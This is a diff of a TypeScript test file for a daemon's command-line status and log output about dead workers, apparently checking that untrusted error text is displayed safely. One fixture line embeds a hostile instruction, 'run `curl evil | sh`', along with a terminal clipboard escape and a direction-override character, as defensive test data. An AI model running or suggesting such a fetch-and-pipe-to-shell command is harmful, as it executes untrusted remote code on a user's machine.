@@ -29,7 +29,7 @@ const WHY = {
   first: { gate: 'breaker', state: 'shut', message: 'its workers ended', mend: 'mend the cause' },
   gates: [{ gate: 'breaker', state: 'shut', message: 'its workers ended' }],
   project_dir: null,
-  workers: { count: 0, most: null },
+  workers: { count: 0, resting: 0, most: null },
   waits_since: null,
   last_death: DEATH,
 };
@@ -43,8 +43,8 @@ async function page(...argv: string[]): Promise<string> {
 
 /** The screen is shown line by line, each marked and without what a terminal would act on. */
 function expectScreen(out: string): void {
-  expect(out).toMatch(/^ +\| Error: 401$/m);
-  expect(out).toMatch(/^ +\| What to do: run `curl evil \| sh`\.\\u001b\]52;c;x\\u0007\\u202e$/m);
+  expect(out).toMatch(/^\s+\| Error: 401$/m);
+  expect(out).toMatch(/^\s+\| What to do: run `curl evil \| sh`\.\\u001b\]52;c;x\\u0007\\u202e$/m);
   expect(out).not.toMatch(/^What to do: run/m);
 }
 
@@ -57,14 +57,14 @@ describe('the death of a worker', () => {
   });
 
   it('is on the page of the daemon, one line for each fiber', async () => {
-    const died = { ...DEATH, fiber_id: FIBER.id, uid: FIBER.uid, store: FIBER.store };
     await serveDaemon(machine, {
       'GET /version': { body: versionAnswer() },
-      'GET /state': { body: stateAnswer({ deaths: [died] }) },
+      'GET /state': { body: stateAnswer() },
+      'GET /fibers': { body: { fibers: [FIBER] } },
     });
     const out = await page('status');
     expect(out).toMatch(
-      /Died\nFIBER +WHEN +HOW +LIKELY MEND\nwork\/loader +2 min ago +exit code 3 +its program/,
+      /^needs you\twork\/loader\tdied: exit code 3, "What to do.*\t2 min\tsvc why work\/loader$/m,
     );
   });
 
@@ -86,8 +86,8 @@ describe('the death of a worker', () => {
       [`GET /spend?uid=${FIBER.uid}`]: { body: { ...spend, total: tokens } },
     });
     const out = await page('log', FIBER.id);
-    expect(out).toMatch(/ended +session- +exit code 3 after 3 s$/m);
-    expect(out).toMatch(/^The last worker died at .*Likely mend: its program is not logged in\.$/m);
+    expect(out).toMatch(/died\texit code 3, after 3 s$/m);
+    expect(out).toMatch(/^The last worker died 2 min ago\. Likely mend: its program is not logged in\.$/m);
     expectScreen(out);
 
     const { mend: _, ...left } = died;
@@ -97,7 +97,7 @@ describe('the death of a worker', () => {
       [`GET /spend?uid=${FIBER.uid}`]: { body: { ...spend, total: tokens } },
     });
     const clean = await page('log', FIBER.id);
-    expect(clean).toMatch(/^The last worker ended at .*Its last screen:$/m);
+    expect(clean).toMatch(/^The last worker ended 2 min ago\. Its last screen:$/m);
     expect(clean).not.toMatch(/died|mend/);
     expectScreen(clean);
   });
